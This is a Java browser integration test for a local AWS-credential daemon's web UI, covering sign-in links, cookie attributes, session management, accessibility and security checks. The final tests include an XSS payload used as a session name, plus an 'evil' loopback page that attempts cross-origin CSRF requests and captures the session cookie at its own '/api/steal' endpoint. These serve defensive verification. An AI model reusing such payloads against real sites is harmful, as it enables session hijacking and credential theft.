package dev.keyport.ui;

import com.fasterxml.jackson.databind.JsonNode;
import dev.keyport.browser.cdp.ChromiumLauncher;
import dev.keyport.browser.cdp.ChromiumProcess;
import dev.keyport.testing.Api;
import dev.keyport.testing.KeyportTestEnvironment;
import dev.keyport.testkit.IntegrationTest;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

/**
 * The web page in Debian's Chromium, driven over DevTools as a person would use it: the one-time link, the main
 * journey (add with inline validation, start with a supplied assertion, the countdown, stop, delete), keyboard use,
 * light and dark, 360 px, and what the browser itself enforces (the cookie's attributes, the Content-Security-Policy,
 * a hostile session name). Screenshots of each view are saved for review (docs/screenshots holds the committed ones).
 */
@IntegrationTest
@QuarkusTest
@QuarkusTestResource(KeyportTestEnvironment.class)
class WebPageBrowserTest {
    private static final Path CHROMIUM = Path.of("/usr/bin/chromium");
    /** Any DNS lookup fails: nothing the page does can reach past loopback. */
    private static final String NO_DNS = "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1";

    private static Path profile;
    private static ChromiumProcess browser;
    private final KeyportTestEnvironment env = KeyportTestEnvironment.current();

    @BeforeAll
    static void launch() throws Exception {
        if (!Files.isExecutable(CHROMIUM)) {
            fail(CHROMIUM + " is missing: apt-get install chromium");
        }
        profile = Files.createTempDirectory("keyport-ui-browser-");
        browser = new ChromiumLauncher(CHROMIUM, profile).headless(true).extraArgs(List.of(NO_DNS)).launch();
    }

    @AfterAll
    static void quit() throws Exception {
        if (browser != null) {
            browser.close();
        }
    }

    @AfterEach
    void clean() {
        Api.deleteAllSessions();
    }

    static String base() {
        return "http://127.0.0.1:" + RestAssured.port;
    }

    /** What {@code keyport ui} gets: the one-time link, and the private page that forwards to it. */
    static Map<String, String> link() {
        return Api.given().post("/api/v1/ui/links").then().statusCode(200)
                .header("Cache-Control", "no-store").extract().jsonPath().getMap("");
    }

    /** A tab signed in through the private page {@code keyport ui} opens. */
    BrowserTab signedIn() throws Exception {
        BrowserTab tab = BrowserTab.open(browser);
        tab.go(Path.of(link().get("page")).toUri().toString());
        tab.waitFor("document.body && document.body.dataset.ready === 'true'");
        return tab;
    }

    @Test
    void theOneTimeLinkSignsInOnceThroughAPrivatePageAndTheCookieIsHttpOnlyStrictAndHostOnly() throws Exception {
        Map<String, String> link = link();
        Path page = Path.of(link.get("page"));
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(page)));
        assertTrue(Files.readString(page, StandardCharsets.UTF_8).contains(link.get("url").replace("&", "&amp;")));
        assertTrue(link.get("url").matches("http://127\\.0\\.0\\.1:\\d+/ui/#code=[A-Za-z0-9_-]{43}"), link.get("url"));

        try (BrowserTab tab = BrowserTab.open(browser)) {
            tab.go(page.toUri().toString());
            tab.waitFor("document.body && document.body.dataset.ready === 'true'");
            assertEquals("#sessions", tab.text("location.hash"), "the code leaves the address bar at once");
            assertFalse(tab.text("document.cookie").contains("keyport-ui"), "no script can read the cookie");
            JsonNode cookie = null;
            for (JsonNode c : tab.cookies(base() + "/api/v1/sessions")) {
                if (c.get("name").asText().equals("keyport-ui-" + RestAssured.port)) {
                    cookie = c;
                }
            }
            assertTrue(cookie != null, "the sign-in set its cookie");
            assertTrue(cookie.get("httpOnly").asBoolean());
            assertEquals("Strict", cookie.get("sameSite").asText());
            assertEquals("127.0.0.1", cookie.get("domain").asText(), "host-only: no Domain attribute");
            assertEquals("/api/", cookie.get("path").asText());
            assertFalse(tab.text("sessionStorage.getItem('keyport.csrf') || ''").isEmpty());

            // A reload keeps the tab signed in...
            tab.eval("location.reload()");
            tab.waitFor("document.body && document.body.dataset.ready === 'true'");
            // ...but arriving anew (a link, or a page that opens Keyport in a pop-up, which gets a copy of the
            // tab's storage) does not take the stored token up again.
            tab.go(base() + "/ui/?from=a-link#sessions");
            tab.waitFor("!document.getElementById('view-signin').hidden");
            assertEquals("", tab.text("sessionStorage.getItem('keyport.csrf') || ''"));
        }

        // The same link, once more, in another tab: refused, and the page says what to do.
        try (BrowserTab second = BrowserTab.open(browser)) {
            second.go(link.get("url"));
            second.waitFor("!document.getElementById('view-signin').hidden");
            String reason = second.text("document.getElementById('signin-reason').textContent");
            assertTrue(reason.contains("used already or has expired"), reason);
            assertTrue(second.text("document.getElementById('view-signin').textContent").contains("keyport ui"));
            assertTrue(second.eval("document.getElementById('nav').hidden").asBoolean());
            second.screenshot(BrowserTab.screenshotFolder().resolve("link-used-twice.png"));
        }
    }

    @Test
    void addStartWithAnAssertionWatchTheCountdownStopAndDelete() throws Exception {
        Path shots = BrowserTab.screenshotFolder();
        try (BrowserTab tab = signedIn()) {
            tab.viewport(1280, 900, "light");
            tab.waitFor("!document.getElementById('no-sessions').hidden");

            // Add, with the API's own messages under the fields as they are typed.
            tab.click("nav-add");
            tab.waitFor("!document.getElementById('view-form').hidden");
            tab.type("f-alias", "web-admin");
            tab.type("f-region", "eu-west-1");
            tab.type("f-samlUrl", "https://acme.okta.com/home/amazon_aws/0oa1abc/272");
            tab.type("f-idpArn", KeyportTestEnvironment.PROVIDER_ARN);
            tab.type("f-roleArn", "arn:aws:iam::123456789012:user/NotARole");
            String roleProblem = tab.waitFor("document.getElementById('e-roleArn').textContent").asText();
            assertTrue(roleProblem.contains("Role ARN must be an IAM role ARN"), "in the form's words: " + roleProblem);
            assertEquals("true", tab.text("document.getElementById('f-roleArn').getAttribute('aria-invalid')"));
            String detected = tab.waitFor("document.getElementById('p-samlUrl').textContent").asText();
            assertTrue(detected.contains("Okta"), detected);
            tab.screenshot(shots.resolve("add-session-validation.png"));
            tab.type("f-roleArn", KeyportTestEnvironment.ROLE_ARN);
            tab.waitFor("document.getElementById('e-roleArn').textContent === ''");
            tab.click("form-submit");
            tab.waitFor("document.querySelector('[data-alias=\"web-admin\"]')");
            String id = Api.given().get("/api/v1/sessions/web-admin").then().statusCode(200).extract().path("id");
            assertEquals("Stopped", tab.text("document.getElementById('state-" + id + "').textContent"));

            // Edit: the form comes back filled in; a change shows on the card.
            tab.click("edit-" + id);
            tab.waitFor("document.getElementById('form-title').textContent === 'Edit web-admin'");
            assertEquals("web-admin", tab.text("document.getElementById('f-alias').value"));
            assertEquals(KeyportTestEnvironment.ROLE_ARN, tab.text("document.getElementById('f-roleArn').value"));
            tab.type("f-region", "eu-central-1");
            // The test kit's IdP page, which signs in by itself: what a refresh (Rotate) signs in at.
            String testkitIdp = env.idpApis().endpoint() + "/_testkit/idp?role=" + KeyportTestEnvironment.ROLE_ARN
                    + "&provider=" + KeyportTestEnvironment.API_IDP_ARN;
            tab.type("f-samlUrl", testkitIdp);
            tab.type("f-idpArn", KeyportTestEnvironment.API_IDP_ARN);
            tab.click("form-submit");
            tab.waitFor("document.querySelector('[data-alias=\"web-admin\"]') && document.querySelector("
                    + "'[data-alias=\"web-admin\"]').textContent.includes('eu-central-1')");
            Api.given().get("/api/v1/sessions/web-admin").then().body("region",
                    org.hamcrest.Matchers.equalTo("eu-central-1"));

            // Start with a supplied assertion: the countdown appears and counts down.
            tab.click("start-with-assertion-" + id);
            tab.waitFor("document.getElementById('assertion-dialog').open");
            tab.type("assertion-text", env.idpApis().factory().google()
                    .rolePair(KeyportTestEnvironment.ROLE_ARN, KeyportTestEnvironment.API_IDP_ARN).build().base64());
            tab.click("assertion-start");
            tab.waitFor("document.getElementById('state-" + id + "').textContent === 'Active'");
            String first = tab.waitFor("document.getElementById('left-" + id + "').textContent").asText();
            assertTrue(first.matches("(\\d+ h )?\\d+ min \\d+ s left"), first);
            String later = tab.waitFor("(() => { const t = document.getElementById('left-" + id + "').textContent;"
                    + " return t !== " + quote(first) + " && t; })()").asText();
            assertNotEquals(first, later, "the countdown moves");
            assertTrue(Files.readString(env.credentialsFile()).contains("[web-admin]"), "the profile was delivered");
            assertEquals("export AWS_PROFILE=web-admin\nexport AWS_REGION=eu-central-1",
                    tab.text("document.getElementById('text-export-" + id + "').textContent"));
            assertEquals("", tab.text("document.getElementById('assertion-text').value"), "the assertion is not kept");
            tab.screenshot(shots.resolve("sessions.png"));

            // Refresh: new credentials from STS, the session stays active.
            int issued = env.sts().issuedCredentials().size();
            tab.click("refresh-" + id);
            tab.waitFor("document.getElementById('status').textContent.includes('has new credentials')");
            assertEquals(issued + 1, env.sts().issuedCredentials().size(), "one more STS call");
            assertEquals("Active", tab.text("document.getElementById('state-" + id + "').textContent"));

            // Console: a new tab signs in at the (emulated) federation endpoint with the session's credentials.
            int logins = env.federation().logins().size();
            java.util.concurrent.CompletableFuture<String> landed = new java.util.concurrent.CompletableFuture<>();
            try (var watch = browser.connection().addListener(event -> {
                String url = event.params() == null ? "" : event.params().path("targetInfo").path("url").asText("");
                if (event.method().startsWith("Target.target") && url.contains("Action=login")) {
                    landed.complete(event.params().path("targetInfo").path("targetId").asText() + " " + url);
                }
            })) {
                BrowserTab.await(browser.connection().send("Target.setDiscoverTargets",
                        new com.fasterxml.jackson.databind.ObjectMapper().createObjectNode().put("discover", true)));
                tab.click("console-" + id);
                String[] target = BrowserTab.await(landed).split(" ", 2);
                assertTrue(target[1].startsWith(env.sts().endpoint() + "/federation?Action=login"), target[1]);
                // The console's tab got no copy of the page's CSRF token (a new tab copies its opener's storage):
                // brought back to the daemon's origin, it holds none.
                try (var console = dev.keyport.browser.cdp.CdpPage.attach(browser.connection(), target[0]).get(30,
                        java.util.concurrent.TimeUnit.SECONDS)) {
                    BrowserTab.await(console.navigate(base() + "/ui/app.css"));
                    assertEquals("none", BrowserTab.await(console.evaluate(
                            "sessionStorage.getItem('keyport.csrf') || 'none'")).asText());
                }
                // The person closes the console's tab and comes back to Keyport's.
                BrowserTab.await(browser.connection().send("Target.closeTarget",
                        new com.fasterxml.jackson.databind.ObjectMapper().createObjectNode().put("targetId", target[0])));
            }
            tab.waitFor("document.getElementById('status').textContent.includes('Opened the AWS console')");
            assertEquals(logins + 1, env.federation().logins().size(), "the console tab signed in once");
            assertTrue(env.federation().logins().get(logins).known(), "with a token the endpoint issued");
            // Input goes to the tab in front.
            BrowserTab.await(tab.page().send("Page.bringToFront", new com.fasterxml.jackson.databind.ObjectMapper()
                    .createObjectNode()));

            // Stop: the credentials are withdrawn and the card says so.
            tab.click("stop-" + id);
            tab.waitFor("document.getElementById('state-" + id + "').textContent === 'Stopped'");
            assertFalse(Files.readString(env.credentialsFile()).contains("[web-admin]"), "the profile was withdrawn");

            // Delete, after confirming.
            tab.click("delete-" + id);
            tab.waitFor("document.getElementById('confirm-dialog').open");
            tab.click("confirm-yes");
            tab.waitFor("!document.querySelector('[data-alias=\"web-admin\"]')");
            Api.given().get("/api/v1/sessions/web-admin").then().statusCode(404);
        }
    }

    @Test
    void liveUpdatesShowAStartMadeElsewhereAndTheKeyboardReachesEveryAction() throws Exception {
        String id = Api.create("kbd", "kbd");
        try (BrowserTab tab = signedIn()) {
            tab.waitFor("document.getElementById('state-" + id + "')");
            // Started by another client (the CLI, say): the page hears it on the event stream.
            Api.given().body(Api.start(env.samlResponseFor(KeyportTestEnvironment.ROLE_ARN)))
                    .post("/api/v1/sessions/kbd/start").then().statusCode(200);
            tab.waitFor("document.getElementById('state-" + id + "').textContent === 'Active'");
            assertTrue(tab.text("document.getElementById('live').textContent").contains("kbd started"));

            // Keyboard only: the first Tab reaches the skip link, then the sections, in reading order.
            tab.eval("document.activeElement && document.activeElement.blur(); window.scrollTo(0, 0)");
            tab.press("Tab", false);
            assertEquals("skip", tab.focused());
            tab.press("Tab", false);
            assertEquals("nav-sessions", tab.focused());
            // Stop by keyboard: focus the button with Tab presses, activate it with Enter.
            boolean reached = false;
            for (int i = 0; i < 40 && !reached; i++) {
                tab.press("Tab", false);
                reached = tab.focused().equals("stop-" + id);
            }
            assertTrue(reached, "Tab reaches the Stop button");
            tab.press("Enter", false);
            tab.waitFor("document.getElementById('state-" + id + "').textContent === 'Stopped'");
            Api.given().get("/api/v1/sessions/kbd").then().body("status", org.hamcrest.Matchers.equalTo("INACTIVE"));

            assertEquals("[]", tab.eval("(() => { const ids = [...document.querySelectorAll('[id]')].map(e => e.id);"
                    + " return ids.filter((id, i) => ids.indexOf(id) !== i); })()").toString(), "ids used twice");
            // Every field has a label; every text meets WCAG AA contrast, in light and in dark.
            for (String view : List.of("#sessions", "#add", "#discover", "#providers")) {
                tab.eval("location.hash = '" + view + "'");
                tab.waitFor("document.querySelector('.view:not([hidden])').id !== 'view-loading'");
                assertEquals("[]", tab.eval(UNLABELLED).toString(), "fields without a label on " + view);
                for (String scheme : List.of("light", "dark")) {
                    tab.viewport(1280, 900, scheme);
                    assertEquals("[]", tab.eval(LOW_CONTRAST).toString(), "low contrast in " + scheme + " on " + view);
                }
            }
        }
    }

    @Test
    void editKeepsAChainedSessionsParentAndANamedProvider() throws Exception {
        String parent = Api.create("edit-parent", "edit-parent");
        String chained = Api.given().body(Api.chained("edit-chained", "edit-parent",
                "arn:aws:iam::123456789012:role/Deploy")).post("/api/v1/sessions").then().statusCode(201)
                .extract().path("id");
        Map<String, Object> okta = Api.session("edit-okta", "edit-okta");
        okta.put("providerId", "okta");
        String named = Api.given().body(okta).post("/api/v1/sessions").then().statusCode(201).extract().path("id");
        try (BrowserTab tab = signedIn()) {
            tab.click("edit-" + chained);
            tab.waitFor("document.getElementById('form-title').textContent === 'Edit edit-chained'");
            assertEquals(parent, tab.text("document.getElementById('f-parentSession').value"), "the parent is chosen");
            assertTrue(tab.eval("document.getElementById('f-samlUrl').closest('.field').hidden").asBoolean(),
                    "a chained session's federated fields are out of the way");
            tab.type("f-alias", "edit-chained-2");
            tab.click("form-submit");
            tab.waitFor("document.querySelector('[data-alias=\"edit-chained-2\"]')");
            Api.given().get("/api/v1/sessions/edit-chained-2").then().body("parentSession",
                    org.hamcrest.Matchers.equalTo(parent));

            tab.click("edit-" + named);
            tab.waitFor("document.getElementById('form-title').textContent === 'Edit edit-okta'");
            assertEquals("okta", tab.text("document.getElementById('f-providerId').value"), "the provider is chosen");
            assertTrue(tab.eval("document.getElementById('f-providerId').options.length > 4").asBoolean());
            tab.type("f-alias", "edit-okta-2");
            tab.click("form-submit");
            tab.waitFor("document.querySelector('[data-alias=\"edit-okta-2\"]')");
            Api.given().get("/api/v1/sessions/edit-okta-2").then().body("providerId",
                    org.hamcrest.Matchers.equalTo("okta"));
        }
    }

    @Test
    void darkAnd360PixelsWideWithoutSidewaysScrolling() throws Exception {
        String id = Api.started("phone-admin");
        Api.create("phone-readonly", "phone-readonly");
        Path shots = BrowserTab.screenshotFolder();
        try (BrowserTab tab = signedIn()) {
            tab.viewport(360, 800, "dark");
            tab.waitFor("document.getElementById('state-" + id + "')");
            assertEquals("dark", tab.text("matchMedia('(prefers-color-scheme: dark)').matches ? 'dark' : 'light'"));
            assertEquals("rgb(18, 20, 23)", tab.text("getComputedStyle(document.body).backgroundColor"));
            for (String view : List.of("#sessions", "#add", "#discover", "#providers", "#health")) {
                tab.eval("location.hash = '" + view + "'");
                tab.waitFor("document.querySelector('.view:not([hidden])').id !== 'view-loading'");
                assertTrue(tab.eval("document.documentElement.scrollWidth <= document.documentElement.clientWidth").asBoolean(),
                        view + " scrolls sideways at 360 px: " + tab.eval(WIDER_THAN_360));
            }
            tab.eval("location.hash = '#sessions'");
            tab.waitFor("document.getElementById('state-" + id + "')");
            tab.screenshot(shots.resolve("sessions-dark-360px.png"));

            tab.viewport(1280, 900, "light");
            tab.eval("location.hash = '#providers'");
            tab.waitFor("document.querySelectorAll('#provider-table tbody tr').length > 4");
            assertTrue(tab.text("document.getElementById('provider-table').textContent").contains("Okta"));
            tab.screenshot(shots.resolve("providers.png"));
            tab.eval("location.hash = '#health'");
            tab.waitFor("document.querySelectorAll('#finding-list .finding').length > 3");
            assertTrue(tab.text("document.getElementById('finding-list').textContent").contains("browser"));
            tab.screenshot(shots.resolve("health.png"));
        }
    }

    @Test
    void discoverRolesFromAPastedAssertionAndCreateTheTickedSessions() throws Exception {
        try (BrowserTab tab = signedIn()) {
            tab.viewport(1280, 900, "light");
            tab.eval("location.hash = '#discover'");
            tab.waitFor("!document.getElementById('view-discover').hidden");
            tab.type("d-samlUrl", "https://acme.okta.com/home/amazon_aws/0oa1abc/272");
            tab.type("d-region", "eu-west-1");
            tab.type("d-assertion", env.samlResponseFor(KeyportTestEnvironment.ROLE_ARN));
            tab.eval("document.getElementById('discover-form').requestSubmit()");
            tab.waitFor("!document.getElementById('roles-form').hidden");
            assertEquals("", tab.text("document.getElementById('d-assertion').value"), "the assertion is not kept");
            assertTrue(tab.eval("document.getElementById('role-0').checked").asBoolean());
            tab.type("role-alias-0", "discovered-tester");
            tab.screenshot(BrowserTab.screenshotFolder().resolve("discover-roles.png"));
            tab.click("roles-create");
            tab.waitFor("document.querySelector('[data-alias=\"discovered-tester\"]')");
            // Created, and started from the same assertion (one sign-in for every ticked role).
            Api.given().get("/api/v1/sessions/discovered-tester").then().statusCode(200)
                    .body("roleArn", org.hamcrest.Matchers.equalTo(KeyportTestEnvironment.ROLE_ARN))
                    .body("samlUrl", org.hamcrest.Matchers.equalTo("https://acme.okta.com/home/amazon_aws/0oa1abc/272"))
                    .body("status", org.hamcrest.Matchers.equalTo("ACTIVE"));
        }
    }

    @Test
    void discoverRolesBySigningInOnceThroughTheIdp() throws Exception {
        // The test kit's IdP page signs in by itself and posts its SAML response to AWS, as an IdP does after MFA.
        String samlUrl = env.idpApis().endpoint() + "/_testkit/idp?role=" + KeyportTestEnvironment.ROLE_ARN
                + "&provider=" + KeyportTestEnvironment.API_IDP_ARN;
        try (BrowserTab tab = signedIn()) {
            tab.eval("location.hash = '#discover'");
            tab.waitFor("!document.getElementById('view-discover').hidden");
            tab.type("d-samlUrl", samlUrl);
            tab.type("d-region", "eu-west-1");
            tab.click("discover-sign-in");
            tab.waitFor("!document.getElementById('roles-form').hidden");
            assertTrue(tab.text("document.getElementById('role-list').textContent").contains("KeyportTester"));
            tab.type("role-alias-0", "signed-in-once");
            tab.click("roles-create");
            tab.waitFor("document.querySelector('[data-alias=\"signed-in-once\"]')");
            Api.given().get("/api/v1/sessions/signed-in-once").then().statusCode(200)
                    .body("samlUrl", org.hamcrest.Matchers.equalTo(samlUrl))
                    .body("status", org.hamcrest.Matchers.equalTo("ACTIVE"));
        }
    }

    @Test
    void aHeadlessSignInsQuestionsAreAnsweredOnThePage() throws Exception {
        Map<String, Object> okta = Api.session("okta-web", "okta-web");
        okta.put("samlUrl", env.idpApis().okta().embedLink(KeyportTestEnvironment.OKTA_APP));
        okta.put("idpArn", KeyportTestEnvironment.API_IDP_ARN);
        okta.put("providerId", "okta");
        okta.put("loginFlow", "HEADLESS");
        okta.put("username", "totp");
        String id = Api.given().body(okta).post("/api/v1/sessions").then().statusCode(201).extract().path("id");
        try (BrowserTab tab = signedIn()) {
            tab.click("start-" + id);
            String field = "challenge-" + id + "-text";
            tab.waitFor("document.getElementById('" + field + "')");
            assertEquals("password", tab.text("document.getElementById('" + field + "').type"), "a secret is hidden");
            assertEquals("Starting", tab.text("document.getElementById('state-" + id + "').textContent"));
            assertTrue(tab.text("document.getElementById('session-" + id + "').textContent")
                    .contains("Okta password for totp"), "the card shows what the start waits for");
            assertTrue(tab.text("document.getElementById('status').textContent").contains("okta-web: Okta password"),
                    "and the page announces it");
            assertEquals(field, tab.focused(), "the answer field has the keyboard");
            tab.type(field, dev.keyport.testkit.EmulatedUsers.PASSWORD);
            tab.click("challenge-" + id + "-send");
            tab.waitFor("document.getElementById('challenge-" + id + "-prompt') && document.getElementById("
                    + "'challenge-" + id + "-prompt').textContent.includes('Code from')");
            tab.screenshot(BrowserTab.screenshotFolder().resolve("headless-challenge.png"));
            tab.type(field, dev.keyport.testkit.EmulatedUsers.TOTP_CODE);
            tab.click("challenge-" + id + "-send");
            tab.waitFor("document.getElementById('state-" + id + "').textContent === 'Active'");
            assertFalse(tab.text("document.body.innerHTML").contains(dev.keyport.testkit.EmulatedUsers.PASSWORD),
                    "the password does not stay in the page");
        }
    }

    @Test
    void theBrowserEnforcesThePolicyAndAHostileNameStaysText() throws Exception {
        String hostile = "<img src=x onerror=\"window.pwned=1\">";
        Api.create(hostile, "hostile");
        try (BrowserTab tab = signedIn()) {
            tab.waitFor("document.querySelector('.card')");
            assertEquals(hostile, tab.text("document.querySelector('.card h2').textContent"));
            assertEquals(0, tab.eval("document.querySelectorAll('.card img').length").asInt());
            // An injected inline script and a picture from elsewhere are both refused by the policy.
            JsonNode violations = tab.eval("new Promise(resolve => { const seen = [];"
                    + " document.addEventListener('securitypolicyviolation', e => { seen.push(e.effectiveDirective);"
                    + " if (seen.length === 2) resolve(seen); });"
                    + " const s = document.createElement('script'); s.textContent = 'window.pwned = 2';"
                    + " document.body.append(s);"
                    + " const i = document.createElement('img'); i.src = 'http://example.com/pixel.png';"
                    + " document.body.append(i); })");
            assertTrue(violations.toString().contains("script-src"), violations.toString());
            assertTrue(violations.toString().contains("img-src"), violations.toString());
            assertTrue(tab.eval("window.pwned === undefined").asBoolean(), "no injected script ran");
        }
    }

    @Test
    void aPageOfAnotherOriginGetsNowhereEvenWithTheCookieItWasSent() throws Exception {
        Api.started("victim");
        java.util.concurrent.atomic.AtomicReference<String> stolen = new java.util.concurrent.atomic.AtomicReference<>("");
        com.sun.net.httpserver.HttpServer attacker = com.sun.net.httpserver.HttpServer.create(
                new java.net.InetSocketAddress("127.0.0.1", 0), 0);
        String daemon = base();
        // Another local program's page, on another port of 127.0.0.1: the same site to the browser, another origin.
        String evil = "<!DOCTYPE html><title>evil</title><script>(async () => { const r = {};"
                + " try { await fetch('" + daemon + "/api/v1/sessions/victim/stop', {method: 'POST',"
                + "   credentials: 'include', mode: 'no-cors'}); r.stop = 'sent'; } catch (e) { r.stop = 'blocked'; }"
                + " try { const a = await fetch('" + daemon + "/api/v1/sessions', {credentials: 'include'});"
                + "   r.read = 'read ' + a.status; } catch (e) { r.read = 'blocked'; }"
                + " try { await fetch('/api/steal', {credentials: 'include'}); } catch (e) { }"
                + " window.results = r; document.title = 'done'; })();</script>";
        attacker.createContext("/", exchange -> {
            if (exchange.getRequestURI().getPath().equals("/api/steal")) {
                stolen.set(String.valueOf(exchange.getRequestHeaders().getFirst("Cookie")));
            }
            byte[] body = evil.getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().add("Content-Type", "text/html; charset=utf-8");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        attacker.start();
        try (BrowserTab keyport = signedIn(); BrowserTab other = BrowserTab.open(browser)) {
            other.go("http://127.0.0.1:" + attacker.getAddress().getPort() + "/evil");
            other.waitFor("document.title === 'done'");
            assertEquals("blocked", other.text("window.results.read"), "the page read nothing of the daemon's");
            Api.given().get("/api/v1/sessions/victim").then().body("status", org.hamcrest.Matchers.equalTo("ACTIVE"));

            // The browser did send that page Keyport's cookie (cookies ignore ports)...
            String cookieName = "keyport-ui-" + RestAssured.port;
            assertTrue(stolen.get().contains(cookieName + "="), "cookie sent to the other port: " + stolen.get());
            String value = stolen.get().replaceFirst(".*" + cookieName + "=([^;]+).*", "$1");
            // ...and it is worth nothing without the CSRF token that only Keyport's own page holds.
            RestAssured.given().header("Origin", base()).header("Sec-Fetch-Site", "same-origin")
                    .header("Cookie", cookieName + "=" + value).post("/api/v1/sessions/victim/stop").then()
                    .statusCode(403);
            Api.given().get("/api/v1/sessions/victim").then().body("status", org.hamcrest.Matchers.equalTo("ACTIVE"));
            // Keyport's own tab, with the same cookie, still works.
            keyport.waitFor("document.querySelector('[data-alias=\"victim\"]')");
        } finally {
            attacker.stop(0);
        }
    }

    private static String quote(String s) {
        return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'";
    }

    /** The elements that reach past 360 px, for the message of a failure. */
    static final String WIDER_THAN_360 = "[innerWidth, document.documentElement.clientWidth, document.documentElement.scrollWidth,"
            + " ...[...document.querySelectorAll('body *')]"
            + ".filter(e => e.getBoundingClientRect().right > document.documentElement.clientWidth + 0.5"
            + " || (e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX === 'visible'))"
            + ".map(e => (e.id || e.tagName + '.' + e.className) + ':' + Math.round(e.getBoundingClientRect().right)"
            + " + '/' + e.scrollWidth)"
            + ".slice(0, 12)]";

    /** Fields with no label, no aria-label, no aria-labelledby (visible ones only). */
    static final String UNLABELLED = "[...document.querySelectorAll('input, select, textarea')]"
            + ".filter(e => e.offsetParent !== null && e.type !== 'hidden')"
            + ".filter(e => !(e.labels && e.labels.length) && !e.getAttribute('aria-label')"
            + " && !e.getAttribute('aria-labelledby')).map(e => e.id || e.name)";

    /**
     * Visible text whose contrast with the background behind it is below WCAG AA (4.5:1; 3:1 for large text), as
     * "text (ratio)". The background is the first opaque one among the element and its ancestors.
     */
    static final String LOW_CONTRAST = "(() => {"
            + " const rgb = c => (c.match(/[\\d.]+/g) || []).map(Number);"
            + " const lum = ([r, g, b]) => { const f = v => { v /= 255; return v <= 0.03928 ? v / 12.92"
            + "   : Math.pow((v + 0.055) / 1.055, 2.4); }; return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b); };"
            + " const bg = el => { for (let e = el; e; e = e.parentElement) { const c = rgb(getComputedStyle(e)"
            + "   .backgroundColor); if (c.length === 3 || c[3] === 1) return c.slice(0, 3); }"
            + "   return rgb(getComputedStyle(document.body).backgroundColor).slice(0, 3); };"
            + " const bad = [];"
            + " for (const el of document.querySelectorAll('body *')) {"
            + "   if (el.offsetParent === null || el.disabled || el.closest('[hidden]')) continue;"
            + "   const own = [...el.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());"
            + "   if (!own) continue;"
            + "   const s = getComputedStyle(el); const a = lum(rgb(s.color)), b = lum(bg(el));"
            + "   const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);"
            + "   const large = parseFloat(s.fontSize) >= 24 || (parseFloat(s.fontSize) >= 18.66 && s.fontWeight >= 700);"
            + "   if (ratio < (large ? 3 : 4.5)) bad.push(el.textContent.trim().slice(0, 30) + ' (' + ratio.toFixed(2) + ')');"
            + " } return bad; })()";
}
